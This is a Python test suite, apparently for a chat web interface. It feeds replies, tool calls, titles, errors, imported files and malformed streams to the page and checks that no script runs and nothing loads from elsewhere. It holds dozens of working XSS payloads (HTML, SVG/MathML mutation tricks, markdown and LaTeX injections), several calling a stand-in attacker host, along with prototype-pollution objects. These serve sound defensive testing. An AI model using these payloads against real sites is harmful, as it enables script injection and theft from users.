"""What a model, a file or a server says is hostile text: no script of it runs, nothing of it is loaded.

Payloads come in through every door: as a reply and its thought, as a tool call and its result, as a title,
a question and an error, and through an imported file.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest

from qanat.errors import RequestError
from tests.page.engine import Say
from tests.page.talk import Talk
from tests.page.test_conversations import bundle, importing

EVIL = "https://evil.invalid"
RUN = "globalThis.pwned=1"

HTML = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/pixel.png 2x' src=x>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x'></use></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>top.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src={EVIL}/x.swf>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>body{{background:url({EVIL}/x.png)}}</style>",
    f"<div style='background:url({EVIL}/x.png)'>x</div>",
    f"<form action={EVIL}><input name=x autofocus onfocus={RUN}><button>Go</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={EVIL}/x.mp4 autoplay onloadstart={RUN}></video>",
    f"<audio src={EVIL}/x.mp3 autoplay></audio>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a id=DOMPurify></a><a id=DOMPurify name=sanitize href='javascript:{RUN}'></a>",
    f"<img name=getElementById><form name=body><input name=firstChild></form><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<textarea><img src=x onerror={RUN}></textarea>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<custom-element onclick={RUN} tabindex=0 autofocus onfocus={RUN}>x</custom-element>",
    f"<dialog open><form method=dialog><button popovertarget=x onclick={RUN}>x</button></form></dialog>",
    "<div data-slot=0></div><span data-slot=1></span>",
    "<div id=app><button id=send></button></div>",
    f"\x00<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><?x <img src=x onerror={RUN}>?>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java&#x09;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+ '{RUN}')",
    f"[x](vbscript:{RUN})",
    f"[x](blob:{EVIL}/a) [y](file:///etc/passwd) [z](//evil.invalid/x) [w](/metrics)",
    f"<javascript:{RUN}>",
    f"![x]({EVIL}/pixel.png)",
    f"![x](javascript:{RUN})",
    f'![x](data:image/svg+xml;base64,PHN2Zy8+) !["><img src=x onerror={RUN}>]({EVIL}/p.png)',
    f"[a]: {EVIL}/pixel.png\n\n![x][a]",
    f'[x]({EVIL} "onmouseover={RUN} \\"><script>{RUN}</script>")',
    f'```"><img/src=x/onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
    f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```",
    f"```js onload={RUN}\n`${{{RUN}}}`\n```",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| [x](javascript:{RUN}) | <script>{RUN}</script> |",
    f"`<img src=x onerror={RUN}>` &lt;script&gt;{RUN}&lt;/script&gt;",
    f'https://evil.invalid/<script>{RUN}</script> "><svg/onload={RUN}>',
    "&lt;img src=x onerror=globalThis.pwned=1&gt; &#60;script&#62;globalThis.pwned=1&#60;/script&#62;",
]
FORMULAS = [
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\url{{javascript:{RUN}}}$",
    f"$\\includegraphics{{{EVIL}/pixel.png}}$",
    f"$\\htmlClass{{x}}{{y}} \\htmlId{{app}}{{y}} \\htmlStyle{{background:url({EVIL})}}{{y}}$",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\rule{9999em}{9999em}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$$\n\\unknown<script>{RUN}</script>\n$$",
    f"\\(\\color{{red;background:url({EVIL}/x)}}x\\)",
    "$" + "{" * 2000 + "}" * 2000 + "$",
]
PAYLOADS = [*HTML, *MARKDOWN, *FORMULAS]


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


def at_home(talk: Talk) -> bool:
    """The address is the page's, with a conversation's name or none."""
    return re.fullmatch(re.escape(talk.address) + "(#[0-9a-f]{32})?", talk.page.url) is not None


def assert_unharmed(talk: Talk) -> None:
    """No script ran, nothing was loaded from elsewhere, we are where we were, nothing dangerous is there."""
    page = talk.page
    page.wait_for_timeout(150)  # for what would run late
    assert page.evaluate("globalThis.pwned") is None
    assert at_home(talk)
    assert [url for url in talk.requested if not url.startswith((talk.address, "blob:"))] == []
    found = page.evaluate(
        """() => [...document.querySelectorAll('#thread *, #conversations *, #inside *, #title, dialog *')]
            .flatMap((element) => [
                ...(/^(script|iframe|object|embed|base|meta|link|style|img|video|audio|foreignobject|animate|use)$/i
                    .test(element.tagName) ? [element.outerHTML.slice(0, 200)] : []),
                ...[...element.attributes].filter(({name, value}) => /^on|^srcdoc$/i.test(name)
                    || (/^(href|src|action|formaction|xlink:href)$/i.test(name)
                        && !/^(https?:|mailto:)/i.test(value)))
                    .map(({name, value}) => `${name}=${value}`),
            ])"""
    )
    assert found == []
    assert page.evaluate("document.querySelectorAll('#app').length") == 1
    # The policy is a second wall: none of this may even have come as far as to run into it.
    assert [fault for fault in talk.faults if "Security Policy" in fault] == []


@pytest.mark.parametrize("part", range(3))
def test_a_reply_and_its_thought_do_no_harm(talk: Talk, part: int) -> None:
    for payload in PAYLOADS[part::3]:
        talk.ask("Say", Say(f"{payload}\n\nend-of-it", thought=payload, size=23))
        talk.page.locator(".thought summary").last.click()
        assert "end-of-it" in talk.reply.inner_text(), payload
    assert_unharmed(talk)
    talk.page.keyboard.press("Alt+i")
    talk.page.locator(".token").first.click()
    assert_unharmed(talk)


def test_calls_and_results_do_no_harm(talk: Talk) -> None:
    for payload in PAYLOADS[::6]:
        calls = [(f"f{payload}", json.dumps({payload: payload})), (payload, payload)]
        talk.ask("Call", Say(calls=calls))
        for _ in calls:
            talk.page.locator(".call textarea").last.fill(payload)
            talk.page.locator(".call form button").last.click()
        talk.ended()
    assert_unharmed(talk)


def test_questions_titles_and_errors_do_no_harm(talk: Talk) -> None:
    for payload in PAYLOADS[1::4]:
        talk.page.click("#new-chat")
        talk.ask(payload, Say(refuse=RequestError(payload)))
    talk.page.fill("#search", "<")
    assert_unharmed(talk)
    talk.page.locator("#conversations li").first.hover()
    talk.page.locator("#conversations button[aria-label^=Delete]").first.click()
    assert_unharmed(talk)


def test_an_imported_file_does_no_harm(talk: Talk) -> None:
    def harmful(payload: str) -> dict[str, Any]:
        call = {"id": payload, "name": payload, "arguments": payload}
        fields: dict[str, Any] = {
            "content": payload,
            "reasoning": payload,
            "error": payload,
            "model": payload,
        }
        assistant = {"role": "assistant", "parent": 0, **fields, "finish": payload[:64], "calls": [call]}
        return bundle(
            {"role": "user", "content": payload, "parent": None},
            assistant,
            {"role": "tool", "content": payload, "call": payload, "name": payload, "parent": 1},
            title=payload,
            settings={"model": payload, "system": payload, "tools": payload},
        )

    for payload in [payload for payload in PAYLOADS if len(payload) < 256][::3]:
        importing(talk, harmful(payload))
        talk.page.locator("article.tool").wait_for()
        talk.page.click("#new-chat")
    talk.page.locator("#conversations .open").first.click()
    talk.page.keyboard.press("Alt+s")
    assert_unharmed(talk)
    talk.page.keyboard.press("Escape")
    talk.page.keyboard.press("Alt+i")
    assert_unharmed(talk)


def test_a_models_name_does_no_harm(talk: Talk) -> None:
    names = HTML[:3]
    models = {"data": [{"id": name, "max_model_len": 9, "chat_defaults": None} for name in names]}
    talk.page.route("**/v1/models", lambda route: route.fulfill(json=models))
    talk.page.goto(talk.address)
    talk.page.locator(".welcome-name", has_text="<script>").wait_for()
    talk.page.keyboard.press("Alt+s")
    assert_unharmed(talk)


def test_a_link_is_followed_in_a_tab_that_knows_nothing_of_us(talk: Talk) -> None:
    talk.ask("Link", "[there](https://evil.invalid/x)")
    talk.page.context.route("https://evil.invalid/**", lambda route: route.fulfill(body="hello"))
    with talk.page.context.expect_page() as opened:
        talk.reply.locator("a").click()
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("[opener, document.referrer]") == [None, ""]
    assert at_home(talk)


STREAMED: list[Any] = [
    *(None, 5, "x", [], {}, {"choices": None}, {"choices": "x"}, {"choices": [None]}, {"choices": [5]}),
    *({"usage": 5}, {"usage": {"prompt_tokens": "<b>", "completion_tokens": 1e308}}, {"model": {"a": 1}}),
    *({"prompt_progress": 5}, {"prompt_progress": {"total": "x", "processed": None}}),
    *({"choices": [{"delta": delta}]} for delta in (None, 5, {"content": 5}, {"content": {"toString": 1}})),
    *({"choices": [{"delta": {"reasoning_content": bad}}]} for bad in (5, ["x"], {"a": 1})),
    *({"choices": [{"delta": {"tool_calls": calls}}]} for calls in (5, "x", [None], [{}])),
    *(
        {
            "choices": [
                {"delta": {"tool_calls": [{"index": index, "id": "polluted", "function": {"name": "x"}}]}}
            ]
        }
        for index in ("__proto__", "constructor", "length", -1, 0.5, 1e9, 4294967294, None)
    ),
    {
        "choices": [
            {"delta": {"tool_calls": [{"index": 0, "id": 5, "function": {"name": {}, "arguments": 5}}]}}
        ]
    },
    *(
        {"choices": [{"delta": {"content": "a"}, "logprobs": bad}]}
        for bad in (5, {"content": 5}, {"content": [None]})
    ),
    *(
        {"choices": [{"delta": {"content": "a"}, "logprobs": {"content": [token]}}]}
        for token in (
            {"token": 5},
            {"token": "a", "logprob": "x", "bytes": None, "top_logprobs": None},
            {"token": "a", "logprob": 1e308, "bytes": "x", "top_logprobs": [None, 5, {"token": "<b>"}]},
            {"token": "\u202e<img src=x>", "logprob": -1e308, "bytes": [], "top_logprobs": []},
        )
    ),
    *({"choices": [{"delta": {}, "finish_reason": bad}]} for bad in (5, {}, "__proto__", "constructor")),
]
"""Objects of a stream that no server of ours sends."""
EXPLAINED: list[Any] = [
    *(
        None,
        5,
        "x",
        [],
        {},
        {"stretches": 5},
        {"prompt": 5, "stretches": [None], "tokens": 5, "vocabulary": {}},
    ),
    {
        "prompt": "",
        "stretches": [{"added_token": None, "pieces": [{"text": 5}]}],
        "tokens": [],
        "vocabulary": "x",
    },
]
LISTED: list[Any] = [
    *(None, 5, {}, {"data": 5}, {"data": [None]}, {"data": [5]}, {"data": [{}]}, {"data": []}),
    {"data": [{"id": {"a": 1}, "max_model_len": "x", "chat_defaults": 5}]},
    {"data": [{"id": "m", "max_model_len": -1, "chat_defaults": {"sampling": "x", "can_switch": {}}}]},
]


def answering(body: str) -> Callable[[Any], None]:
    return lambda route: route.fulfill(body=body)


def polluted(talk: Talk) -> Any:
    return talk.page.evaluate(
        """() => [({}).id, [].id, Object.prototype.name, Array.prototype.arguments, [].length, (() => {}).id]
            .filter((value) => value !== undefined && value !== 0)"""
    )


def test_a_stream_of_nonsense_does_no_harm(talk: Talk) -> None:
    """Each object, alone and with a good end: the reply ends, the page goes on, and can be looked into."""
    for value in STREAMED:
        lines = f"data: {json.dumps(value)}\n\ndata: [DONE]\n\n"
        talk.page.route("**/chat/completions", answering(lines))
        talk.page.click("#new-chat")
        talk.page.fill("#draft", "Nonsense?")
        talk.page.press("#draft", "Enter")
        talk.page.locator("article.assistant").wait_for(state="attached")
        talk.ended()
        talk.page.keyboard.press("Alt+i")
        talk.page.locator(".piece").first.wait_for()
        for place in range(talk.page.locator(".token").count()):
            talk.page.locator(".token").nth(place).click()
        talk.page.keyboard.press("Alt+i")
        assert polluted(talk) == [], value
        assert talk.faults == [], value
        talk.page.unroute("**/chat/completions")
    talk.page.reload()
    talk.page.locator("article.assistant").wait_for(state="attached")
    talk.ask("Sense?", "Yes.")
    assert_unharmed(talk)


def test_nonsense_about_prompts_and_models_does_no_harm(talk: Talk) -> None:
    talk.ask("Look")
    for value in EXPLAINED:
        talk.page.route("**/explain", answering(json.dumps(value)))
        talk.page.keyboard.press("Alt+i")
        talk.page.locator(".stage", has_text="token by token").wait_for()
        talk.page.locator("#inside .error", has_text="The server sent what cannot be read.").wait_for()
        talk.page.keyboard.press("Alt+i")
        talk.page.unroute("**/explain")
        assert talk.faults == [], value
    for value in LISTED:
        talk.page.route("**/v1/models", answering(json.dumps(value)))
        talk.page.reload()
        talk.page.locator("article.user", has_text="Look").wait_for()
        talk.page.keyboard.press("Alt+s")
        talk.page.keyboard.press("Escape")
        talk.page.unroute("**/v1/models")
        assert talk.faults == [], value
    talk.page.reload()
    talk.page.locator("#model", has_text="scripted/model").wait_for()
    assert_unharmed(talk)


def test_names_and_numbers_of_a_file_are_no_more_than_that(talk: Talk) -> None:
    """What every object has a member for, numbers beyond all bounds, and times far away."""
    proto = '{"__proto__": {"temperature": 1, "pwned": 1}, "constructor": 5, "temperature": 99, "top_k": 3}'
    for name in ("constructor", "__proto__", "toString", "hasOwnProperty"):
        numbers = (
            '"usage": {"prompt": 1e308, "completion": 9e14, "__proto__": {"pwned": 1}}, "seconds": 5e-324'
        )
        message = (
            f'{{"role": "assistant", "content": "by `{name}`", "parent": null,'
            f' "finish": "{name}", "model": "{name}",'
            f' "calls": [{{"id": "{name}", "name": "{name}", "arguments": "{name}"}}],'
            f' "__proto__": {{"error": "pwned"}}, "settings": {proto}, {numbers}, "created": 9e14}}'
        )
        file = bundle(updated=9e14, created=-1)
        text = json.dumps(file).replace('"messages": []', f'"messages": [{message}], "settings": {proto}')
        importing(talk, text)
        talk.page.locator("article", has_text=f"by {name}").wait_for()
        assert talk.page.locator(".ended, article .error").count() == 0
        assert "native code" not in talk.page.inner_text("body")
        assert "pwned" not in talk.page.inner_text("body")
        [kept] = talk.page.evaluate(
            """async () => {
                const {loadMessages} = await import('/page/js/store.js');
                return loadMessages(location.hash.slice(1));
            }"""
        )
        assert set(kept["settings"]) == {"system", "model", "thinking", "tools", "calculator", "top_k"}
        talk.page.fill(".call textarea", name)
        talk.page.keyboard.press("Enter")
        talk.ended()
    assert polluted(talk) == []
    assert talk.page.evaluate("({}).pwned") is None
    assert_unharmed(talk)
